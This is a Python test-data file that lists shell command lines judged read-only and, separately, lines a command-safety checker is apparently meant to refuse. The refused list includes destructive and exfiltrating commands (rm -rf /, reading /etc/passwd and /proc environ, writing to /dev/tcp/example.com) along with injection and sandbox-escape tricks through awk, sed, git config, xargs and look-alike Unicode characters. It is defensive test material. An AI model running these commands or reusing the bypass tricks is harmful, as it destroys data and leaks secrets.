"""Shell lines in both directions. A line in the wrong half is a hole or an annoyance."""

from __future__ import annotations

READ_ONLY = r"""
env
env | sort | head -20
env | grep -i path
printenv
printenv PATH
printenv HOME USER
awk '/foo/{print FILENAME": "$0}' src/*.py
awk -F= -v n=2 '{print $n}' *.txt
jq 'keys | length' src/*.json
jq -r --arg a b '.x' a.json *.json
sed -n 1p src/*.py
sed -n -e 1p -e 2p src/*.py a.txt
sed -e 's/a/b/' *.txt
unzip -l *.whl
unzip -l src/*.zip 2>/dev/null | head
tar tzf *.tar.gz
find src/*.py -newer a.txt
find . -name *.py
ls {a,b}
ls a{,b}
cat src/{app,abc}.py
wc -l {src,tests}/*.py
grep -rnE 'a|b' --include=*.{ts,tsx} src
git clean -n
git clean -nd
git clean -ndx src
git clean -d --dry-run
git apply --check a.diff
git apply --stat a.diff
git apply --numstat -p1 a.diff
git apply --check -R a.diff
git symbolic-ref --short HEAD
git check-attr -a a.txt
git reflog show -5
bash -n a.sh
sh -n ./a.sh
bash --version
node --check a.js
node -c src/a.js
ss -tlnp
netstat -tlnp
go env GOPATH
join a.txt b.txt
ls
ls -la
ls -la src tests
ls --color=never -R
ls -1 src
ls -lah --group-directories-first
cat README.md
cat -n a.txt b.txt
head -20 a.txt
head -n 5 a.txt
head -c 10 a.txt
tail -n +5 a.txt
tail -c 100 a.txt
tail -5 a.txt
wc -l a.py b.py
wc -c < /dev/null
wc -l < a.txt
sort < src/app.py | uniq -c
egrep -n 'a|b' a.txt
fgrep -rl foo src
rg --version
jq --version
ls --help
pwd
pwd -P
echo hello world
echo "two words" 'and more'
echo -n x
echo -e "a\tb"
echo "it's"
echo "quoted \"inside\""
echo "cost: \$5"
echo "regex \. stays"
echo "done!"
echo --- ---
echo "=== files ===" && ls
true
:
false || true
printf '%s' x
printf '%s\n' a b
printf '%s: %d\n' name 5
printf 'no newline'
printf '100%%\n'
whoami
id -u
id
uname -a
uname -sr
date
date +%Y-%m-%d
date -u
date -d yesterday +%F
date --date=yesterday
df -h
df -h .
du -sh src
du -h --max-depth=1 .
stat a.txt
stat -c %s a.txt
file a.png
which python3
type ls
command -v git
command -v rg
basename /a/b
basename a.txt .txt
dirname /a/b
realpath a
readlink -f a
cut -d , -f 1 a.csv
cut -d' ' -f1 a.txt
cut -c1-5 a.txt
sort a.txt
sort -u -k 2 a.txt
sort -t, -k2,2n a.csv
uniq -c a.txt
uniq -f 1 a.txt
sort a.txt | uniq -c | sort -rn | head -5
tr a-z A-Z
tr -d '\n'
echo x | tr ' ' '\n'
diff -u a b
diff -U 3 a.txt b.txt
diff a.txt b.txt
cmp a b
comm -12 a.txt b.txt
paste -sd, a.txt
column -t -s , a.csv
fold -w 80 a.txt
expand -t 4 a.txt
nl -ba a.txt
tac a.txt
rev a.txt
od -c a.txt
od -An -tx1 a.txt
xxd a.txt
xxd -l 16 a.txt
xxd -l16 -s 4 -p a.txt
command cd src && ls
hexdump -C a.txt
hexdump -n 16 -C a.txt
strings -n 8 a.png
sha256sum a
md5sum a.txt b.txt
sha1sum a.txt
sha512sum a.txt
b2sum a.txt
cksum a.txt
base64 a.txt
base64 -d a.txt
seq 1 10
seq -w 1 10
expr 1 + 2
bc -l
echo '1+1' | bc
factor 12
tree -L 2
tree -a -I node_modules
nproc
arch
hostname
hostname -f
uptime
free -m
lscpu
ps aux
ps -ef
ps -p 1 -o pid,comm
ps -eo pid,ppid,%cpu
ps -opid -p1
ps --sort=-rss -ef
pgrep -fl python
lsof -i :3000
locale
groups
getconf PAGE_SIZE
sleep 1
exit 0
test -f a.txt
test -d src && echo yes
[ -f a.txt ]
[ -f a.txt ] && cat a.txt
[ "a" = "b" ] || echo differ
[ ! -d build ] && echo none
rg foo
rg -n "foo bar" src
rg --files
rg -i --type py pattern src
rg -l foo | head
rg 'def \w+\(' -g '*.py'
rg -c foo src
rg -A 3 -B 3 foo a.txt
rg --json foo
rg "a|b" src --no-heading
grep -rn foo src
grep -E 'a|b' file
grep -c x file
grep --include='*.py' x
grep -rn "class Foo" --include="*.py" .
grep -v '^#' a.txt
grep -rn foo --include=*.py src
grep -oP '\d+' a.txt
grep "foo\.bar" a.txt
grep -q x a.txt && echo found
grep -n "TODO\|FIXME" a.txt
find . -name '*.py'
find src -type f -maxdepth 2
find . -name '*.py' -not -path './x/*'
find . -type f -newer a.txt
find . \( -name '*.py' -o -name '*.txt' \) -print
find . ! -name '*.pyc' -type f
find . -type f -printf '%s %p\n'
find . -size +1M -ls
find . -name '*.py' | wc -l
find . -name '*.py' -print0 | xargs -0 wc -l
find . -name '*.py' | xargs ls -l
ls .g*
ls src/.*
find . -name '*.py' | sort | head -20
find . -type f -print0 | xargs -0 grep -l foo
find . -type f -name '*.txt' -print0 | xargs -0 cat
find src tests -type f -iname '*.py' -size 20k -print0 | xargs -0 head -5
git ls-files | xargs ls
ls | xargs -n 1 echo
ls | xargs -I{} basename {}
fd -e py
fd foo src
git status
git status -sb
git status --porcelain=v2
git status --short --branch
git log
git log --oneline -5
git log --oneline --graph --all
git log -p -- src/app.py
git log --format="%H %s" -n 3
git log --pretty=format:'%h %an %s' -10
git log --author alice --since '1 week ago'
git log --stat -1
git log -S foo --oneline
git log main..HEAD --oneline
git log @{u}..HEAD
git log --follow -p a.txt
git log -L 1,5:a.txt
git diff
git diff --stat HEAD~1
git diff HEAD^ -- a.py
git diff --cached
git diff --staged --name-only
git diff main...HEAD
git diff --name-status HEAD
git diff -U10 a.txt
git diff --word-diff a.txt
git show HEAD
git show HEAD:src/app.py
git show --stat HEAD
git show --name-only --format= HEAD
git show stash@{0}
git branch
git branch -a
git branch -vv
git branch --show-current
git branch --list 'feature-1'
git branch --contains=HEAD
git branch --merged
git branch --merged main
git branch --sort=x --format=y --list z
git tag
git tag -l
git tag -l 'v1'
git tag --list 'v1'
git remote
git remote -v
git remote get-url origin
git rev-parse HEAD
git rev-parse --abbrev-ref HEAD
git rev-parse --show-toplevel
git ls-files
git ls-files --others --exclude-standard
git ls-tree -r HEAD --name-only
git cat-file -p HEAD
git blame -L 1,5 a.py
git blame a.txt
git shortlog -sn HEAD
git stash list
git stash show -p
git reflog -5
git --no-pager log -1
git -C src status
git -C src log --oneline -3
git describe --tags
git describe --always
git grep -n foo
git merge-base main HEAD
git rev-list --count HEAD
git for-each-ref --sort=-committerdate --format='%(refname:short)'
git show-ref --tags
git worktree list
git check-ignore -v a.txt
git count-objects -vH
git config --get user.name
git config --get remote.origin.url
git diff-tree --no-commit-id --name-only -r HEAD
sed -n '1,5p' a.txt
sed -n 10p a.txt
sed -n '/foo/,/bar/p' a.txt
sed -n '$p' a.txt
sed -n '$=' a.txt
sed 's/foo/bar/' a.txt
sed 's/foo/bar/g; s/a/b/' a.txt
sed -E 's/(a+)b/\1/g' a.txt
sed -e 's/a/b/' -e '/x/d' a.txt
sed '1d' a.txt
sed '1,10d;20q' a.txt
sed 's|/usr|/opt|g' a.txt
sed -n 's/^version = //p' a.txt
awk '{print $1}' a.txt
awk -F, '{print $2}' a.csv
awk -F ',' 'NR>1 {print $2}' a.csv
awk '$3 > 100 {print $1}' a.txt
awk '/foo|bar/ {print NR": "$0}' a.txt
awk '{sum += $1} END {print sum}' a.txt
awk 'NR==5' a.txt
awk 'NR>=5 && NR<=10' a.txt
awk -v n=3 'NR==n' a.txt
jq . a.json
jq -r '.name' a.json
jq '.scripts | keys' a.json
jq -r '.[] | select(.a > 1) | .b' a.json
jq --arg n x '.[$n]' a.json
cat a.json | jq -c '.items[]'
python3 --version
python --version
python -V
node --version
node -v
git --version
npm --version
pip list
pip show requests
pip freeze
pip --version
cargo --version
rustc --version
go version
gcc --version
make --version
java -version
bash --version
docker --version
tar -tf a.tar
tar tzf a.tgz
tar -tvf a.tar
unzip -l a.zip
ls && pwd
ls; pwd
ls || true
cat a.txt | wc -l
ls;
  ls
ls 2>&1
ls 2>/dev/null
ls >/dev/null
ls > /dev/null 2>&1
ls &> /dev/null
ls missing 2>&1 | head -5
cat a.txt 2>/dev/null || echo none
ls </dev/null
echo hi >&2
2>/dev/null ls
cat ünïcode.txt
cat 'with blank.txt'
echo "✓ done"
ls # comment
ls *.py
ls src/*.py
wc -l src/*.py
cat src/a*.py
head -3 *.txt
ls ?.py
ls [ab].py
grep -n foo src/*.py
git diff -- src/*.py
ls sr*/
ls -d t*/
echo -- -x
printf '%s' -x
ls dash/*
ls sr*/*.py
cd src && ls
cd src && ls -la && cat app.py
cd src; ls
cd ./src && git status
cd src && cat ../a.txt
cd src && cd .. && ls
cd src && ls | head
time ls
time -p ls
timeout 5 ls
timeout 10s git status
timeout -k 5 10 rg foo
timeout --preserve-status 5 ls
nice ls
nice -n 10 ls
nohup ls
stdbuf -oL ls
command ls
builtin echo x
env ls
env NO_COLOR=1 ls
NO_COLOR=1 ls
LC_ALL=C sort a.txt
TZ=Europe/Berlin date
LANG=C timeout 5 ls
cat -- a.txt
git show HEAD~1
git diff HEAD~2..HEAD~1
git log --grep='fix: thing'
""".strip("\n").split("\n")  # fmt: skip

READ_ONLY += [
    "ls\npwd",
    "ls\n\n\npwd\n",
    "# What is here?\nls -la\n# And there\ncat a.txt",
    "git log \\\n  --oneline \\\n  -5",
    "ls &&\npwd",
    "echo 'two\nlines'",
    "cat a.txt |\n  head -5",
]

NOT_PROVEN = r"""
env A=1
env A=1 ls
env -u PATH
env --help -S x
env -0 ls
printenv -x
awk src/*.py
awk -f *.awk
awk -f src/*.awk a.txt
awk '{print > FILENAME}' src/*.py
jq *.json
jq --arg *.json . a.json
jq --arg a *.json
jq -f *.jq a.json
jq --from-file src/*.jq
sed src/*.py
sed -n -e *.py
sed -n *.py a.txt
sed -i s/a/b/ src/*.py
unzip *.zip
unzip -o src/*.zip
tar xf *.tar
tar *.tar
cd dash && awk '{print}' *
cd dash && unzip -l *
cd dash && tar tf *
cd dash && jq . *
cd dash && sed -n p *
cd dash && find *
cd dash && find * -type f -exec cat {} +
find * -type f -exec cat {} +
find src/*.py -exec cat {} +
sed -n p *link
awk 1 *link
jq . *link
rm {a,b}
rm -{r,f} src
cat {../outside.txt,a.txt}
cat ../{outside,b}.txt
cat {/etc/passwd,a.txt}
find . -{delete,print}
sort {-o,a.txt} b.txt
ls {a,{b,c}}
ls {a..z}
{ls,-la}
git clean
git clean -d
git clean -f
git clean -nf
git clean -n -f
git clean -nfd
git clean -ni
git clean -n --force
git clean -n --interactive
git clean -qn -e '*.log' -f
git apply
git apply a.diff
git apply --check --apply a.diff
git apply --check --index a.diff
git apply --stat --cached a.diff
git apply --check --3way a.diff
git apply --numstat --build-fake-ancestor=x a.diff
git apply --check --unsafe-paths a.diff
git apply --check ../outside.txt
git symbolic-ref HEAD refs/heads/x
git symbolic-ref -d HEAD
git symbolic-ref -m x HEAD refs/heads/x
git reflog expire --all
git reflog delete HEAD@{1}
git fetch --dry-run
bash -n
bash -n -c ls
bash -nc ls
bash -n -x a.sh
bash -x a.sh
bash -n +n a.sh
bash +n a.sh
bash -n --rcfile x a.sh
bash -n -i a.sh
bash -n --init-file x
bash -n link
bash a.sh
sh -n -c ls
sh a.sh
sh -c 'ls'
node --check
node --check --require ./x a.js
node --check -r ./x a.js
node -r ./x --check a.js
node --check link
node --import ./x --check a.js
node -p 1
ss -K
ss -D x
netstat -c
go env -w GOFLAGS=x
go env -u GOFLAGS
go env -changed -w
python3 -m py_compile a.py
wc -l < link
wc -l < ../outside.txt
cat < missing
cat < folder/outside.txt
cat < src
xargs ls < a.txt
python3 - < a.py
python3 < a.py
bash < a.txt
egrep -R foo .
fgrep -f a.txt b.txt
rg --version --pre=x
git --help
find . -name evil.sh | xargs -I ls timeout 5 ls
find . -name evil.sh | xargs -Ils nice ls
find . -name evil.sh | xargs -I ls env ls
find . -name evil.sh | xargs -I ls ls
find . -name evil.sh | xargs -I {} {}
find . -name evil.sh | xargs -I {} ./{}
find . -name evil.sh | xargs -I{} timeout 5 {}
find . -name evil.sh | xargs -I{} env ls {}
find . -name evil.sh | xargs -I{} xargs ls {}
find . -type f -printf '/etc/passwd\0' -print0 | xargs -0 cat
find . -printf '--files0-from=/etc/passwd\0' -print0 | xargs -0 wc
find . -type f -printf '/etc/passwd\0' | xargs -0 cat
find . -type f -ls -print0 | xargs -0 cat
rg -l0 foo | xargs -0 head -5
rg -l0 x | xargs -0 grep x
diff src tests
diff src a.txt
diff -q . src
diff *.txt
git branch --format --list new
git branch --sort --list new
git branch --contains --list new
git branch --merged --list new
git branch --points-at --list new
git branch --no-merged -v --list new
git tag --format --list new
git tag --sort --list new
git tag --contains --list new
git tag --points-at -l new
git branch --merged main new
ps -opid,environ
ps -eopid,environ
ps -o pid,environ
ps -o pid -o environ
ps -p 1 -oenviron
ps -o
rm x
rm -rf /
rm -rf build
ls > out.txt
ls >> out.txt
ls >| out.txt
ls &> out.txt
ls 2> err.txt
ls > /dev/nullx
ls > /dev/null/../x
ls > /dev/tcp/example.com/80
cat < /dev/tcp/example.com/80
cat < in.txt
cat <> in.txt
ls 3> x
ls >&3
ls >&-
ls > $OUT
ls > *.txt
> out.txt
ls > out -la
ls & rm x
ls &
ls $(rm x)
ls `rm x`
echo "$(rm x)"
echo "`rm x`"
echo ${x@P}
echo ${x:-$(id)}
echo $[1+1]
echo $'a'
echo $"a"
echo $1
echo $!
echo "$@"
ls -- $x
ls {1..3}
ls ~
ls ~/secret
ls ~root
ls x:~
cat --number=~/x
A=1 ls
A=1
A=1 B=2
PATH=. ls
LD_PRELOAD=x ls
GIT_PAGER=sh git log
GIT_EXTERNAL_DIFF=x git diff
LC_ALL=../x ls
TZ=:/etc/passwd date
PAGER=x ls
a[0]=1
a=(1 2)
for ((;;)); do ls; done
while true; do ls; done
until true; do ls; done
select x in a; do ls; done
f() { ls; }
function f { ls; }
ls() { rm x; }; ls
coproc ls
(( 1 + 1 ))
let x=1
test -v 'a[$(id)]'
[ -v x ]
[ -R x ]
[ a -eq $(id) ]
ls \
l\s
'ls'
"ls"
l's'
ls "unclosed
ls 'unclosed
ls |& cat
ls |
&& ls
ls && && ls
ls ;; ls
; ls
echo hi!
echo !!
echo !$
echo "!foo"
bash -c ls
bash
sh x
sh
zsh -c ls
eval ls
exec ls
exec > out
source x
. x
env -i ls
env -S 'rm x'
env -u X ls
env PATH=. ls
env A=1 rm x
env sh
set
export
export A=1
declare -p
unset x
alias ls=rm
trap 'rm x' EXIT
cd
cd -
cd ~
cd ..
cd /
cd /tmp && ls
cd src && cat ../../outside.txt
cd src | ls
ls | cd src
cd $X && ls
cd src .. && ls
cd -P src
pushd src
env cd src && ls
timeout 5 cd src && cat ../a.txt
nice cd src
popd
xargs ls
xargs rm
ls | xargs rm
ls | xargs sh -c 'echo'
cat list | xargs wc -l
rg -l0 x | xargs -0 wc -l
git ls-files -z | xargs -0 cat
echo /etc/passwd | xargs cat
ls | xargs -a x ls
find . -print0 | xargs -0 rm
find . -print0 | xargs -0 sed -i s/a/b/
find . -print0 | xargs -0 sort -o x
ls | sh
cat a.sh | bash
cat evil.py | python
cat evil.py | python3 -v
cat evil | node
cat evil | perl
sudo ls
doas ls
su -c ls
timeout 5 rm x
timeout rm x
timeout -s KILL 5 sh
nice rm x
nohup rm x
time rm x
stdbuf -oL rm x
command rm x
command -p ls
builtin eval ls
nice -n 5 bash
tee out
cat a | tee b
cp a b
mv a b
touch a
mkdir a
rmdir a
chmod +x a
chown x a
ln -s a b
dd if=a of=b
truncate -s 0 a
install a b
rsync a b
split a
csplit a 1
shred a
mktemp
curl http://x
wget http://x
ssh host
scp a b:
nc host 1
ping host
dig x
nslookup x
telnet x
ftp x
openssl s_client -connect x:1
python x.py
python -c 'print(1)'
python3 -V x
python -v
python -m pip list
python3
node
node x.js
node -e 1
ruby -e 1
perl -e 1
php -r 1
npm
npm test
npm install
npm run
npm ls
npm ls --depth=0
npm list -g --depth=0
npm root -g
npm --version; npm install
npm view x
npm outdated
npm exec x
npx x
yarn --version
pnpm --version
pip install x
pip list --outdated
pip download x
cargo
cargo build
cargo run
go build
go run .
go env -w X=1
make
make -n
make test
pytest
tox
docker ps
docker run x
kubectl get pods
gh pr view
terraform plan
awk 'BEGIN{system("rm x")}'
awk '{print > "out"}' a
awk '{print >> "out"}' a
awk '{print | "sh"}' a
awk '{printf "%s", $1 > "out"}' a
awk '"id" | getline x' a
awk '{getline < "/etc/passwd"; print}' a
awk 'BEGIN{print ENVIRON["HOME"]}'
awk -f x.awk a
awk -i inplace '{print}' a
awk '@include "x"' a
awk 'BEGIN{ARGV[1]="/etc/passwd";ARGC=2}{print}'
awk '{print}' /inet/tcp/0/example.com/80
awk '/"/ {print > "x"} /"/' a
awk
gawk --load x '{print}' a
sed -i s/a/b/ x
sed -i.bak s/a/b/ x
sed --in-place s/a/b/ x
sed -n -i p x
sed -ni p x
sed -n '1e rm x' a
sed -n '1,5w out' a
sed -n '1,5p' -i a
sed 's/a/b/e' a
sed 's/a/b/w out' a
sed 's/a/b/gw out' a
sed -f script a
sed 'r /etc/passwd' a
sed '1R x' a
sed '1W x' a
sed '{p;w out
sed '1{e id}' a
sed 's/[/]x/y/w out' a
sed -n 's/[]/]/;s|/e#|b|' a
sed -n '/[]/]/e#/p' a
sed 's/[ab]/x/' a
sed 's/a\/b/c/' a
sed 'y/a/b/' a
sed '1{p}' a
sed
jq env a.json
jq -n '$ENV.HOME'
jq -n '$ ENV'
jq -n '$ ENV.HOME'
jq -n '"\\($ ENV)"'
jq -n '$__prog_args'
jq -n '[input_filename]'
jq -n 'env.HOME'
jq -f x.jq a
jq -L . 'import "x" as x; .' a
jq --slurpfile a /etc/passwd . a
jq --rawfile a x . b
jq '"x" | modulemeta' a
vi a
vim a
nano a
emacs a
less a
more a
man ls
info ls
top
htop
watch ls
tail -f a
tail -F a
tail --follow a
tail -n 5 -f a
journalctl
dmesg -c
sort -o out a
strings @a.txt
sort -oout a
sort --output=out a
sort --compress-program=sh a
sort -T /x a
sort --files0-from=x
uniq a b
uniq -c a b
xxd a b
xxd -r a
xxd -ac a b
xxd a.txt -p
uniq a.txt -c
xxd -l 16 a b
xxd -c8 a b
xxd 'a b' c
xxd -r -p a b
date 010203
date -s now
date --set=now
date -f x
hostname evil
hostname -F x
tree -o out
tree -l
find . -delete
find -- . -delete
find . -- -delete
find -- -delete
find . -exec rm {} \;
find . -exec rm {} +
find . -execdir rm x \;
find . -ok rm x \;
find . -okdir rm x \;
find . -fprint out
find . -fprintf out x
find . -fls out
find . -fprint0 out
find -L . -name x
find . '-delete'
find . "-exec" rm {} ";"
find . -files0-from x
sort -- -o x
git diff -- --output=x
rg --pre sh x
rg --pre=sh x
rg --pre-glob x y
rg -z x
rg -L x
rg --follow x
rg --hostname-bin=sh x
rg -f patterns x
rg --ignore-file=x y
grep -R x .
grep -f patterns x
grep -rf patterns x
fd -x rm
fd -X rm
fd --exec rm
fd -L x
file -C -m x
file -z x
file -f x
diff -r a b
diff --to-file=x a
type -x
ls -l /proc/self/environ
lsof -D u
ps e
ps auxe
ps eww
ps -o environ
ps -eoenviron
tar xf a.tar
tar -xf a.tar
tar cf a.tar b
tar -tf a.tar --to-command=sh
tar -tf a.tar --checkpoint-action=exec=sh
tar -I sh -tf a.tar
tar -tf host:a.tar
tar --list --file=a.tar --rsh-command=sh
unzip a.zip
unzip -o a.zip
unzip -l -o a.zip
gzip a
zip a b
split a
base64 -o x a
exit foo
sleep infinity
sleep 99999
printf -v x a
printf 'abc%n' PATH
printf '%5n' x
printf '%%%ln' x
printf -- x
git
git commit -m x
git add .
git push
git pull
git fetch
git checkout x
git switch x
git restore x
git reset --hard
git clean -fd
git merge x
git rebase x
git cherry-pick x
git revert x
git am x
git apply x
git stash
git stash pop
git stash drop
git stash show -p; git stash drop
git branch new
git branch -d x
git branch -D x
git branch -m x
git branch --list -D x
git branch -a new
git branch -f main HEAD~1
git branch --set-upstream-to=x
git branch --edit-description
git tag v1
git tag -d v1
git tag -a v1 -m x
git tag -l -d v1
git remote add x y
git remote show origin
git remote update
git remote remove x
git remote set-url origin x
git config user.name
git config user.name evil
git config --list
git config --get http.extraheader
git config --global --get user.name
git config --get user.name evil x
git config core.pager sh
git -c core.pager=sh log
git -c alias.x='!sh' x
git -ccore.pager=sh log
git -C .. status
git -C / status
git -C src -C .. status
git -C src commit
git -C src diff --output=x
git --git-dir=x status
git --work-tree=/ status
git --exec-path=x status
git --config-env=x=y status
git --paginate log
git -p log
git log --output=x
git log --outp=x
git log --output x
git diff --output x
git diff --output=x
git diff --ext-diff
git log -p --ext-diff
git show --ext-diff HEAD
git log --textconv -p
git diff --no-index a b
git diff -O/etc/passwd
git show --show-signature
git log --show-signature
git log --format=%G?
git log --pretty=%GG
git for-each-ref --format='%(signature)'
git grep -O sh x
git grep -Osh x
git grep --open-files-in-pager=sh x
git grep -f x
git reflog expire --all
git reflog delete x
git rev-parse --parseopt
git cat-file --textconv a
git cat-file --filters a
git cat-file --batch
git worktree add x
git worktree prune
git update-index --refresh
git update-ref x y
git ls-remote
git archive HEAD
git archive --output=x HEAD
git bundle create x
git bisect start
git bisect run sh
git submodule update
git submodule foreach sh
git hash-object -w a
git symbolic-ref HEAD x
git blame --contents x a
git blame -S x a
git ls-files -X x
git ls-files --exclude-from=x
git difftool
git mergetool
git filter-branch
git gc
git init
git clone x
git daemon
git help log
git gui
git instaweb
git send-email x
git notes add
git notes
git shortlog --output=x
git lg
git describe --dirty
cat /proc/self/environ
cat /proc/1/environ
cat //proc/1/environ
cat /./proc/1/environ
cat ../../../proc/1/environ
cat /dev/tty
head /dev/zero
cat /sys/x
od /dev/mem
head -c 100 /dev/urandom
cat /etc/passwd
cat ../outside.txt
ls ..
ls /
grep -rn x ..
rg x /etc
find / -name x
find .. -name x
du -sh ..
cat src/../../outside.txt
cat link
cat folder/outside.txt
cat linked/../outside.txt
ls */
ls folder/*
head folder/*.txt
cat *link
unknown-program
./run.sh
./ls
/bin/ls
/usr/bin/git status
src/run
ls --unknown-flag
ls --color=never --hyperlink=always x --zero=1
cat -Z a
echo a > b
cat <<EOF
cat a >(tee b)
sort *.txt -o x
uniq *.txt
xxd *
sed *
awk * a
ls -*
ls .*
ls '[a]'?
ls \[a\]*
ls 'a*'*
find *
echo **
cd dash && ls *
cd dash && sort *
ls;rm x
ls|rm
ls&&rm x
ls||rm x
""".strip("\n").split("\n")  # fmt: skip

NOT_PROVEN += [
    "",
    "   ",
    "\n",
    "# only a comment",
    "ls\nrm x",
    "ls\n\nrm x",
    "ls\rrm x",
    "ls\r\npwd",
    "ls\x00",
    "ls \x1b[2J",
    "ls\x0bpwd",
    "ls \x7f",
    "ls \x9b",
    "ec\\\nho a",
    "cat a\\\nb",
    "ls # comment\nrm x",
    "ls #\\\nrm x",
    "echo \\\n$(rm x)",
    "bash <<EOF\nrm x\nEOF",
    "ls \ud800",
    "echo " + "a" * 30_000,
    "(" * 200 + "ls" + ")" * 200,
    "ls " + "a " * 5_000,
    "ls && " * 3_000 + "ls",
]

# Characters that look like others, or like nothing.
NOT_PROVEN += ["ls\u00a0-la", "git\u2003status", "ls\u3000-la", "ls \u2013la", "ls \u201ca\u201d", "rm\u200b x"]
NOT_PROVEN += ["echo a\u202eb", "echo 'a\u200bb'", "echo '\ufeffx'", 'echo "a\u2066b"', "ls \uff0dla", "cat a\u00adb"]
